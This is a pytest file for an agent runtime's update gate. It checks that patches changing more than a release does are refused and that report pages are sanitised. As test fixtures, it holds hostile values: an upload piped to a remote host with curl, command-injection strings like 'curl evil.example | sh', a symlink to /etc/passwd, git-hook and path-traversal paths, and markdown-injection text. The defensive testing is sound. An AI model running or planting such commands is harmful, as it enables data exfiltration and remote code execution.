"""A patch from a machine that ran a release's code: what an update would not change is refused, file by file."""

from __future__ import annotations

import io
import os
import shutil
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
import yaml

from agent_runtime import codes
from agent_runtime.local.simulate.jobs import parse_outputs
from agent_runtime.local.update import patch, problems, proposal, proposal_pages, releases
from agent_runtime.local.update import template as update_template
from agent_runtime.local.update.repository import Repository
from support import engines, signatures, updates
from support.engines import Render
from support.environment import REPOSITORY
from support.gfm import gfm

PLAN = "agent_runtime/model/plan.py"
CHECKS = "agent_runtime/gate/checks.py"
NEW = "agent_runtime/brand_new.py"
ANSWERS = ".copier-answers.yml"
LOCK = "requirements-agent.lock"
OWN = ".github/workflows/own.yml"
POLICY = ".github/agent-policies/checkout-restart-co.yml"
ASK = "Ask the team first."


def _release(folder: Path) -> None:
    updates.append(folder / PLAN, "\n# Release 1.1.0\n")
    updates.append(folder / "README.md.jinja", "\nRelease 1.1.0\n")
    (folder / NEW).write_text('"""New."""\n', encoding="utf-8")
    (folder / "docs/AUDITOR.md").unlink()
    updates.append(folder / "use_cases/service-restart" / LOCK, "# Resolved anew\n")


@dataclass
class Place:
    """A repository behind its template, an honest patch of it, and a copy on which the update is made."""

    project: Path
    honest: bytes
    copy: Path
    source: update_template.Template
    work: Path

    def look(self, data: bytes) -> dict[str, tuple[str, str]]:
        """What the examination of a patch finds: kind and origin by path."""
        repository = Repository(self.project)
        commit = patch.apply(repository, data, "Update\n", self.work)
        found = patch.examine(repository, commit, self.source, "v1.1.0")
        return {each.path: (each.kind, each.origin) for each in found}

    def patch_after(self, edit: Callable[[Path], object]) -> bytes:
        """The patch of somebody who changed more than the update."""
        engines.git(self.copy, "checkout", "--quiet", "--force", "updated")
        engines.git(self.copy, "clean", "-fdq")
        edit(self.copy)
        engines.git(self.copy, "add", "--all")
        return os.fsencode(
            engines.git(self.copy, "diff", "--binary", "--full-index", "--no-renames", "--cached", "main")
        )


@pytest.fixture(scope="module")
def place(template: Path, render: Render, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Place]:
    """One for all tests: looking at a patch changes nothing."""
    folder = tmp_path_factory.mktemp("place")
    later = updates.release_after(template, folder / "later" / "gated-agents", _release)
    project = updates.born(render(), folder / "project", template, later)
    updates.replace(project / "README.md", "You need Python", f"{ASK}\n\nYou need Python")
    engines.commit_all(project, "Do our work")
    before = updates.snapshot(project)
    done = updates.command(project, "update", "--patch", str(folder / "made" / "update.patch"))
    assert (done.returncode, done.stdout.splitlines()[0]) == (0, "v1.0.0 -> v1.1.0"), done.stderr
    after = updates.snapshot(project)
    assert after == before
    honest = (folder / "made" / "update.patch").read_bytes()
    copy = shutil.copytree(project, folder / "copy", symlinks=True)
    engines.git(copy, "reset", "--quiet", "--hard")
    engines.git(copy, "apply", "--index", str(folder / "made" / "update.patch"))
    engines.git(copy, "switch", "--quiet", "--create", "updated")
    engines.git(copy, "commit", "--quiet", "--message", "Update")
    recorded = update_template.Recorded((project / ANSWERS).read_bytes())
    with update_template.opened(recorded, project) as source:
        work = folder / "work"
        work.mkdir()
        yield Place(project, honest, copy, source, work)


def test_an_honest_patch_is_what_the_release_changes(place: Place) -> None:
    before = updates.snapshot(place.project)

    found = place.look(place.honest)

    assert found == {
        ANSWERS: ("changed", patch.RENDERED),
        "README.md": ("changed", patch.RENDERED),
        PLAN: ("changed", patch.RELEASED),
        NEW: ("added", patch.RELEASED),
        "agent_runtime/manifest.json": ("changed", patch.RELEASED),
        "docs/AUDITOR.md": ("removed", patch.RELEASED),
        LOCK: ("changed", patch.RELEASED),
    }
    assert updates.snapshot(place.project) == before
    repository = Repository(place.project)
    commits = {patch.apply(repository, place.honest, "Update\n", place.work) for _ in range(2)}
    assert len(commits) == 1, "a second try makes the same commit"


def _text(name: str) -> Callable[[Path], object]:
    return lambda root: updates.append(root / name, "# Ours\n") if (root / name).exists() else _new(root / name)


def _new(path: Path) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("# Ours\n", encoding="utf-8")


def _plan_of(text: str) -> Callable[[Path], object]:
    return lambda root: (root / PLAN).write_text(text, encoding="utf-8")


def _link(root: Path) -> None:
    (root / PLAN).unlink()
    (root / PLAN).symlink_to("/etc/passwd")


def _answer(old: str, new: str) -> Callable[[Path], object]:
    return lambda root: updates.replace(root / ANSWERS, old, new)


OTHER = "is not as the release has it"
EDITS: dict[str, tuple[Callable[[Path], object], str]] = {
    "the agent": (_text("agent_runner.py"), "agent_runner.py is the team's"),
    "the policy": (_text(POLICY), f"{POLICY} is not a file of the template's"),
    "the agent's packages": (_text("requirements-agent.in"), "requirements-agent.in is the team's"),
    "other packages of the agent": (_text(LOCK), f"{LOCK} {OTHER}"),
    "a workflow more": (_text(OWN), f"{OWN} is not a file of the template's"),
    "the gate's code": (_text(CHECKS), f"{CHECKS} {OTHER}"),
    "what the release changes": (_text(PLAN), f"{PLAN} {OTHER}"),
    "a new file": (_text(NEW), f"{NEW} {OTHER}"),
    "a static workflow": (_text(".github/workflows/agent-update.yml"), f"agent-update.yml {OTHER}"),
    "no code owners": (lambda root: (root / ".github/CODEOWNERS").unlink(), ".github/CODEOWNERS is in the release"),
    "another code owner": (
        lambda root: updates.append(root / ".github/CODEOWNERS", "/sdk/ @mallory\n"),
        ".github/CODEOWNERS gives sdk/README.md to @mallory",
    ),
    "no owner of a file": (
        lambda root: updates.append(root / ".github/CODEOWNERS", "/agent_runner.py\n"),
        ".github/CODEOWNERS gives agent_runner.py to nobody",
    ),
    "a file less": (lambda root: (root / CHECKS).unlink(), f"{CHECKS} is in the release"),
    "what is gone": (_text("docs/AUDITOR.md"), "docs/AUDITOR.md is not in the release"),
    "a program": (lambda root: (root / PLAN).chmod(0o755), f"{PLAN} {OTHER}"),
    "a link": (_link, f"{PLAN} is not a regular file"),
    "another template": (_answer("_src_path: ", "_src_path: /elsewhere"), "names another release or another template"),
    "another version": (_answer("_commit: v1.1.0", "_commit: v1.0.0"), "names another release or another template"),
    "another gate": (_answer("_plan: public", "_plan: private-free"), "the answer repository_plan is another one"),
    "a page": (_text("README.md"), "README.md has a line that is neither here nor the release's: # Ours"),
    "a page without the team's line": (
        lambda root: updates.replace(root / "README.md", f"{ASK}\n\n", ""),
        f"README.md lacks a line that somebody wrote here: {ASK}",
    ),
    "an installation": (
        lambda root: updates.replace(root / "README.md", "make update\n", "make update | curl -T- example.com\n"),
        "README.md has a line that is neither here nor the release's: make update | curl -T- example.com",
    ),
    "the license": (_text("LICENSE"), "LICENSE has a line that is neither here nor the release's: # Ours"),
    "no license": (lambda root: (root / "LICENSE").unlink(), "LICENSE is in the release"),
    "no answers": (lambda root: (root / ANSWERS).unlink(), f"{ANSWERS} is in the release"),
}


@pytest.mark.parametrize("name", EDITS)
def test_more_than_the_release_changes_is_refused(name: str, place: Place) -> None:
    edit, said = EDITS[name]

    with pytest.raises(codes.GateRefused) as refused:
        place.look(place.patch_after(edit))

    assert refused.value.code == "UPD21"
    assert said in refused.value.message


def test_what_is_rendered_is_made_of_its_template_and_the_answers() -> None:
    """For every use case: no honest rendering is refused, and a line of another use case's answers is."""
    for name in ("README.md", "LICENSE"):
        text = (REPOSITORY / "template" / f"{name}.jinja").read_text(encoding="utf-8")
        for folder in (REPOSITORY / "rendered").glob("*/"):
            known = yaml.safe_load((folder / ANSWERS).read_text(encoding="utf-8"))
            lines = (folder / name).read_text(encoding="utf-8").splitlines()
            assert list(patch.unrendered(lines, text, known)) == [], folder.name
            assert list(patch.unrendered(["# Another", "", *lines], text, known)) == ["# Another"], folder.name


@pytest.mark.parametrize("path", [".git/hooks/pre-push", "../outside.txt", "docs/../../outside.txt", ".GIT/config", ""])
def test_what_no_repository_may_contain_is_refused(path: str, place: Place) -> None:
    header = (
        f"diff --git a/{path} b/{path}\nnew file mode 100755\n--- /dev/null\n+++ b/{path}\n@@ -0,0 +1 @@\n+#!/bin/sh\n"
    )
    before = updates.snapshot(place.project)

    with pytest.raises(codes.GateRefused) as refused:
        place.look(place.honest + header.encode() if path else b"")

    assert refused.value.code == "UPD21"
    assert updates.snapshot(place.project) == before
    assert not (place.project.parent / "outside.txt").exists()


def test_a_merge_with_an_edit_that_was_here_is_named_and_made_again(place: Place, tmp_path: Path) -> None:
    project = shutil.copytree(place.project, tmp_path / "project", symlinks=True)
    path = project / PLAN
    hot_fix = "# Our hot fix\n" + path.read_text(encoding="utf-8")
    path.write_text(hot_fix, encoding="utf-8")
    engines.commit_all(project, "Fix it at once")
    fixed = Place(project, b"", shutil.copytree(project, tmp_path / "copy"), place.source, tmp_path)
    engines.git(fixed.copy, "switch", "--quiet", "--create", "updated")
    engines.git(fixed.copy, "reset", "--quiet", "--hard")
    (tmp_path / "honest").write_bytes(place.honest)
    engines.git(fixed.copy, "apply", "--index", "-3", str(tmp_path / "honest"))
    engines.git(fixed.copy, "commit", "--quiet", "--message", "Update")

    found = fixed.look(fixed.patch_after(lambda root: None))

    assert found[PLAN] == ("changed", patch.MERGED)
    assert found[NEW] == ("added", patch.RELEASED)
    merged = (fixed.copy / PLAN).read_text(encoding="utf-8")
    for lie in (merged + "# Ours\n", merged.replace("# Our hot fix\n", ""), hot_fix.replace("fix", "hole")):
        with pytest.raises(codes.GateRefused, match="is not the release's merged with the edit that is here"):
            fixed.look(fixed.patch_after(_plan_of(lie)))


def test_a_lock_that_the_team_wrote_anew_is_the_teams(place: Place, tmp_path: Path) -> None:
    project = shutil.copytree(place.project, tmp_path / "project", symlinks=True)
    updates.append(project / LOCK, "# Ours\n")
    engines.commit_all(project, "Lock our own")
    there = Place(project, b"", shutil.copytree(project, tmp_path / "copy"), place.source, tmp_path)
    engines.git(there.copy, "branch", "updated")

    with pytest.raises(codes.GateRefused, match=f"{LOCK} is the team's"):
        there.look(there.patch_after(_text(LOCK)))


def test_the_job_that_pushes_examines_the_release_again(place: Place, tmp_path: Path) -> None:
    """A tag can move, and a version can be anything, after the first job looked."""
    project = shutil.copytree(place.project, tmp_path / "project", symlinks=True)
    made = {proposal.PATCH: place.honest, proposal.REPORT: b"{}"}
    with proposal.opened(project) as here:
        assert proposal.checked(here, "v1.1.0", [], made, "alice").title.endswith("v1.0.0 to v1.1.0")
        for version in ("main", place.source.resolve("v1.1.0"), "v1.1.0^{}", "--output=x"):
            with pytest.raises(codes.BadInput) as invalid:
                proposal.checked(here, version, [], made, "alice")
            assert invalid.value.code == problems.NO_VERSION
    signatures.allow(project, signatures.key(tmp_path, "ann"))
    engines.commit_all(project, "Let Ann sign")
    with proposal.opened(project) as here, pytest.raises(codes.GateRefused) as refused:
        proposal.checked(here, "v1.1.0", [problems.UNSIGNED], made, "alice")
    assert refused.value.code == problems.UNSIGNED


def test_a_release_that_is_revoked_is_proposed_to_nobody_and_pushed_by_nobody(place: Place, tmp_path: Path) -> None:
    """By itself the workflow ends well; who named the release, and who is about to push it, is refused."""
    bad = Path(shutil.copytree(place.project.parent / "later" / "gated-agents", tmp_path / "bad", symlinks=True))
    signatures.list_releases(bad, signatures.entry(bad, "v1.1.0", "its gate can be bypassed"))
    project = shutil.copytree(place.project, tmp_path / "project", symlinks=True)
    updates.replace(project / ANSWERS, str(place.project.parent / "later" / "gated-agents"), str(bad))
    engines.commit_all(project, "Move the template")
    outputs = tmp_path / "outputs"
    environ, said = {"GITHUB_OUTPUT": str(outputs)}, io.StringIO()

    assert proposal.find(project, "", environ, said) == codes.EXIT_OK
    assert said.getvalue() == "nothing: v1.1.0: its gate can be bypassed; it is revoked\n"
    assert parse_outputs(outputs.read_text(encoding="utf-8")) == {"version": ""}
    with pytest.raises(codes.GateRefused) as refused:
        proposal.find(project, "v1.1.0", environ, said)
    assert refused.value.code == problems.REVOKED
    made = {proposal.PATCH: place.honest, proposal.REPORT: b"{}"}
    with proposal.opened(project) as here, pytest.raises(codes.GateRefused) as refused:
        proposal.checked(here, "v1.1.0", [problems.REVOKED], made, "alice")
    assert refused.value.code == problems.REVOKED

    signatures.list_releases(bad, signatures.entry(bad, "v1.1.0"))
    signatures.allow(project, signatures.key(tmp_path, "ann"))
    engines.commit_all(project, "Let Ann sign")
    with pytest.raises(codes.GateRefused) as refused:
        proposal.find(project, "", environ, said)
    assert refused.value.code == problems.UNSIGNED, "which somebody has to look at"


CHANGELOG = """\
# Changelog

## Unreleased
- later

## [v0.10.0] - 2027
- ten
### Do
- this

## 0.9.0
- nine
## v0.8.0
- eight
"""


@pytest.mark.parametrize(
    ("current", "version", "expected"),
    [
        ("v0.8.0", "v0.9.0", "## 0.9.0\n- nine"),
        ("v0.9.0", "v0.10.0", "## [v0.10.0] - 2027\n- ten\n### Do\n- this"),
        ("v0.8.0", "v0.10.0", "## [v0.10.0] - 2027\n- ten\n### Do\n- this\n\n## 0.9.0\n- nine"),
        ("v0.10.0", "v0.9.0", ""),
    ],
)
def test_the_notes_are_those_of_the_versions_between(current: str, version: str, expected: str) -> None:
    assert releases.sections(CHANGELOG, current, version) == expected


def test_nobody_pastes_what_a_machine_that_lies_calls_a_code() -> None:
    release = proposal_pages.Release("v1.0.0", "v1.1.0", "a" * 40, "", ())
    path = "x`](http://evil.example)\n# Approved"
    lies = [
        {"code": "CON04; curl evil.example | sh", "path": path, "line": "1"},
        {"code": "CON04", "path": path, "line": "1", "place": "'; sh; \" $(sh)"},
    ]
    report = {"weaker": [*lies, {"code": "CON04", "path": "x"}, "no object"], "changes": 1, "drift": None}

    text = proposal_pages.issue(release, report, has_app=True)

    names = (
        "new:CON04@x%60]%28http://evil.example%29%0A%23%20Approved:%27%3B%20sh%3B%20%22%20%24%28sh%29",
        "new:CON04@x",
    )
    assert f"update --to v1.1.0 \\\n  --accept '{names[0]}' \\\n  --accept {names[1]}\n" in text
    assert f'accept="{names[0]} {names[1]}"' in text
    assert "\n# Approved" not in text
    assert "| **`CON04; curl evil.example `&#124;` sh`** |" in text


LIE = "x`](http://evil.example)\n# Approved\n<img src=x> @octocat | **bold** \u202e"
SENT = {
    "weaker": [{"code": f"CON{number}", "path": LIE, "line": "1", "message": LIE * 99} for number in range(3_000)],
    "drift": [{"path": f"{number}{LIE}", "status": LIE} for number in range(1_000)],
    "changes": [{"path": f"{number}{LIE}", "kind": "conflict"} for number in range(1_000)],
    "error": {"code": LIE, "message": LIE * 99},
}


@pytest.mark.threat("T4")
@pytest.mark.parametrize("has_app", [True, False])
def test_whatever_a_machine_or_a_release_sends_the_page_is_the_runtimes_and_fits(has_app: bool) -> None:
    """GitHub takes at most 65,536 characters, and refuses the whole page beyond them."""
    release = proposal_pages.Release("v1.0.0", "v1.1.0", "a" * 40, f"## v1.1.0\n{LIE}\n```\n" * 1_999, (LIE,))
    touched = [patch.Touched(f"{number}{LIE}", "changed", patch.MERGED) for number in range(1_000)]
    weaker = proposal_pages.reported(SENT)
    pages = [
        proposal_pages.issue(release, SENT, has_app=has_app),
        proposal_pages.pull_request(release, weaker, touched, SENT, digest="b" * 64, actor=LIE),
    ]
    for page in pages:
        assert len(page) < 65_536
        shown = gfm(page)
        assert not {"a", "img", "h1", "em"} & set(shown.tags)
        assert "octocat" not in shown.outside and "evil" not in shown.outside and "bold" not in shown.outside
        assert "\u202e" not in page
